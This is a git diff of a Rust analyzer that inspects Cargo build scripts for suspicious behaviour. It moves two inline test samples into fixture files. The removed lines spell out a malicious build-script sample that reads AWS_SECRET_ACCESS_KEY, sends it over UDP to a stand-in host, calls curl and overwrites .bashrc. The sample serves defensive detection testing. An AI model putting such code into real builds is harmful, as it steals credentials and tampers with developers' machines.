@@ -321,7 +321,7 @@ impl<'ast> Visit<'ast> for Scan {
                 }
             }
             _ => {
-                // Macro bodies (format!, println!, custom DSLs) still carry literals and paths.
+                // Macro bodies (formatting macros, custom DSLs) still carry literals and paths.
                 for lit in literals(&m.tokens) {
                     self.literal(&lit);
                 }
@@ -380,22 +380,10 @@ mod tests {
 
     #[test]
     fn sees_what_a_malicious_build_script_does() {
-        let f: syn::File = syn::parse_str(
-            r#"
-            use std::net::UdpSocket;
-            use std::process::Command;
-            fn main() {
-                let out = std::env::var("OUT_DIR").unwrap();
-                let key = std::env::var("AWS_SECRET_ACCESS_KEY").unwrap_or_default();
-                let token = env!("CARGO_PKG_NAME");
-                let s = UdpSocket::bind("0.0.0.0:0").unwrap();
-                s.send_to(key.as_bytes(), "10.0.0.1:53").unwrap();
-                Command::new("curl").arg("https://example.invalid/x").status().unwrap();
-                std::fs::write(format!("{}/.bashrc", std::env::var("HOME").unwrap()), "evil").unwrap();
-                let blob = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODkrL0FCQ0RFRkdISUpLTE1OT1BRUlNUVVZXWFla";
-                for (k, v) in std::env::vars() {}
-            }"#,
-        )
+        let f: syn::File = syn::parse_str(include_str!(concat!(
+            env!("CARGO_MANIFEST_DIR"),
+            "/../../fixtures/analysis/malicious_build.rs.txt"
+        )))
         .unwrap();
         let c = scan(&f);
         assert!(c.env_reads.contains("AWS_SECRET_ACCESS_KEY"));
@@ -411,15 +399,10 @@ mod tests {
 
     #[test]
     fn an_ordinary_build_script_is_quiet() {
-        let f: syn::File = syn::parse_str(
-            r#"fn main() {
-                println!("cargo:rerun-if-changed=build.rs");
-                let out = std::env::var("OUT_DIR").unwrap();
-                let target = std::env::var("TARGET").unwrap();
-                if std::env::var("CARGO_FEATURE_STD").is_ok() {}
-                std::fs::write(std::path::Path::new(&out).join("gen.rs"), "").unwrap();
-            }"#,
-        )
+        let f: syn::File = syn::parse_str(include_str!(concat!(
+            env!("CARGO_MANIFEST_DIR"),
+            "/../../fixtures/analysis/ordinary_build.rs.txt"
+        )))
         .unwrap();
         let c = scan(&f);
         assert!(
